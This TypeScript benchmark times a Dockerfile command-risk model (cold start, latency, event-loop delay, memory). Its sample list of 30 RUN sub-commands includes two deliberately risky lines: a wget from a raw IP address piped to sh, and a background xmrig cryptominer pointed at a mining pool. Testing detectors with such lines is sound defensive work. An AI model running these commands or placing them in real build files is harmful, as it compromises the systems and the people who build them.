/**
 * Model figures for `npm run bench` (`benchModel()`), through the real ModelHost and worker:
 *   - worker cold start: spawn → ready (WASM compile, both sessions created, checked and dry-run),
 *     and the main thread's event-loop delay meanwhile (it is off the main thread);
 *   - one Dockerfile of 30 RUN sub-commands per request, featurizing included (it happens in the
 *     worker), without the row cache, as the main thread sees it (round trip) and inside the worker;
 *     the same with evidence; and the editor's case, one sub-command changed, the rest cached;
 *   - the main thread's event-loop delay (p99, max) while requests run back to back
 *     (perf_hooks.monitorEventLoopDelay);
 *   - extra RSS of the process with the worker up and after the runs, and after it is terminated.
 * Uses the shipped models in dist/models/ (`node scripts/build.mjs` copies them there).
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { monitorEventLoopDelay, performance } from 'node:perf_hooks';
import { ModelHost } from '../../server/src/model/host';

/** Realistic sub-commands of one Dockerfile's RUN lines (30), two of them risky. */
export const BENCH_COMMANDS: readonly string[] = [
  'apt-get update',
  'apt-get install -y --no-install-recommends ca-certificates curl gnupg git openssh-client',
  'rm -rf /var/lib/apt/lists/*',
  'groupadd --system --gid 10001 app',
  'useradd --system --uid 10001 --gid app --home /srv/app app',
  'mkdir -p /srv/app /var/cache/app',
  'chown -R app:app /srv/app /var/cache/app',
  'curl -fsSL https://deb.nodesource.com/gpgkey/nodesource-repo.gpg.key | gpg --dearmor -o /etc/apt/keyrings/nodesource.gpg',
  'echo "deb [signed-by=/etc/apt/keyrings/nodesource.gpg] https://deb.nodesource.com/node_20.x nodistro main" > /etc/apt/sources.list.d/nodesource.list',
  'apt-get install -y nodejs=20.11.1-1nodesource1',
  'npm ci --omit=dev --no-audit --no-fund',
  'npm cache clean --force',
  'pip install --no-cache-dir -r requirements.txt',
  'python3 -m compileall -q /srv/app',
  'go build -trimpath -ldflags="-s -w" -o /out/server ./cmd/server',
  'tar -xzf /tmp/release.tar.gz -C /opt',
  'sha256sum -c /tmp/release.tar.gz.sha256',
  'ln -sf /opt/release/bin/tool /usr/local/bin/tool',
  'sed -i "s/^#\\s*\\(en_US.UTF-8\\)/\\1/" /etc/locale.gen',
  'locale-gen',
  'update-ca-certificates',
  'find /usr/local/lib/python3.12 -name "__pycache__" -type d -exec rm -rf {} +',
  'wget -qO- http://45.9.148.3:8080/x.sh | sh',
  'cp config/default.yaml /etc/app/config.yaml',
  'chmod 0755 /usr/local/bin/entrypoint.sh',
  'make -j"$(nproc)" && make install',
  'git clone --depth 1 --branch v1.4.2 https://github.com/example/lib.git /tmp/lib',
  'cd /tmp/lib',
  'nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ --donate-level 1 &',
  'rm -rf /tmp/lib /tmp/release.tar.gz',
];

export interface ModelBenchResult {
  coldStartMs: number;
  startLoopDelayMaxMs: number;
  roundTripP50Ms: number;
  roundTripP95Ms: number;
  workerP50Ms: number;
  explainP50Ms: number;
  incrementalP50Ms: number;
  loopDelayP99Ms: number;
  loopDelayMaxMs: number;
  extraRssMb: number;
  rssAfterTerminateMb: number;
  models: string;
}

function percentile(values: number[], p: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

function defaultDistDir(): string {
  // Bundled into dist/bench.js this file sits beside modelWorker.js; compiled to out/test/model/ it does not.
  return existsSync(join(__dirname, 'modelWorker.js')) ? __dirname : join(__dirname, '..', '..', '..', 'dist');
}

export async function benchModel(options: { distDir?: string; runs?: number; print?: (line: string) => void } = {}): Promise<ModelBenchResult | undefined> {
  const print = options.print ?? ((line: string) => console.log(line));
  const runs = options.runs ?? 200;
  const mb = (bytes: number) => bytes / 1048576;
  const ms = (n: number) => `${n.toFixed(2)} ms`;
  const rss0 = process.memoryUsage().rss;
  // No row cache: every request is scored from scratch (the editor's incremental case is measured apart).
  const host = new ModelHost({ distDir: options.distDir ?? defaultDistDir(), cacheSize: 0, log: (line) => print(`  ${line}`) });
  const delay = monitorEventLoopDelay({ resolution: 1 });
  try {
    delay.enable();
    const started = performance.now();
    const status = await host.start();
    const coldStartMs = performance.now() - started;
    const startLoopDelayMaxMs = delay.max / 1e6;
    if (status.state !== 'ready') {
      print(`model: skipped — ${status.reason ?? status.state}`);
      return undefined;
    }
    const models = status.models.map((m) => `${m.name} ${m.version}`).join(', ');

    for (let i = 0; i < 20; i++) await host.request('cmd-risk', 'warm-up', BENCH_COMMANDS);
    delay.reset();
    const roundTrips: number[] = [];
    const inWorker: number[] = [];
    for (let i = 0; i < runs; i++) {
      const t = performance.now();
      const response = await host.request('cmd-risk', 'bench', BENCH_COMMANDS);
      roundTrips.push(performance.now() - t);
      if (response) inWorker.push(response.inferMs);
    }
    const loopDelayP99Ms = delay.percentile(99) / 1e6;
    const loopDelayMaxMs = delay.max / 1e6;
    const explained: number[] = [];
    for (let i = 0; i < Math.max(10, runs / 4); i++) {
      const t = performance.now();
      await host.request('cmd-risk', 'bench', BENCH_COMMANDS, true);
      explained.push(performance.now() - t);
    }
    const extraRssMb = mb(process.memoryUsage().rss - rss0);
    await host.dispose();

    // The editor's case: the row cache on, one of the 30 sub-commands changes per request.
    const editor = new ModelHost({ distDir: options.distDir ?? defaultDistDir(), log: (line) => print(`  ${line}`) });
    const incremental: number[] = [];
    try {
      await editor.start();
      for (let i = 0; i < runs; i++) {
        const edited = BENCH_COMMANDS.map((c, k) => (k === i % BENCH_COMMANDS.length ? `${c} # edit ${i}` : c));
        const t = performance.now();
        await editor.request('cmd-risk', 'bench', edited);
        incremental.push(performance.now() - t);
      }
    } finally {
      await editor.dispose();
    }
    const rssAfterTerminateMb = mb(process.memoryUsage().rss - rss0);

    const result: ModelBenchResult = {
      coldStartMs,
      startLoopDelayMaxMs,
      roundTripP50Ms: percentile(roundTrips, 50),
      roundTripP95Ms: percentile(roundTrips, 95),
      workerP50Ms: percentile(inWorker, 50),
      explainP50Ms: percentile(explained, 50),
      incrementalP50Ms: percentile(incremental.slice(BENCH_COMMANDS.length), 50),
      loopDelayP99Ms,
      loopDelayMaxMs,
      extraRssMb,
      rssAfterTerminateMb,
      models,
    };
    print(`model (${models}; onnxruntime-web WASM in a worker thread, 1 thread):`);
    print(`  worker cold start (spawn → sessions ready): ${ms(result.coldStartMs)} (target ≤ 1000 ms); main-thread event-loop delay meanwhile max ${ms(result.startLoopDelayMaxMs)}`);
    print(`  one Dockerfile of ${BENCH_COMMANDS.length} RUN sub-commands, featurizing included: round trip p50 ${ms(result.roundTripP50Ms)}, p95 ${ms(result.roundTripP95Ms)} (target ≤ 5 ms); in the worker p50 ${ms(result.workerP50Ms)}`);
    print(`  the same with occlusion evidence for the flagged ones: p50 ${ms(result.explainP50Ms)}`);
    print(`  editing: one of the 30 changed, the others from the row cache: round trip p50 ${ms(result.incrementalP50Ms)}`);
    print(`  main-thread event-loop delay during ${runs} back-to-back requests: p99 ${ms(result.loopDelayP99Ms)} (target ≤ 10 ms), max ${ms(result.loopDelayMaxMs)}`);
    print(`  extra RSS with the worker up: ${result.extraRssMb.toFixed(0)} MB; after it is terminated: ${result.rssAfterTerminateMb.toFixed(0)} MB`);
    return result;
  } finally {
    delay.disable();
    await host.dispose();
  }
}
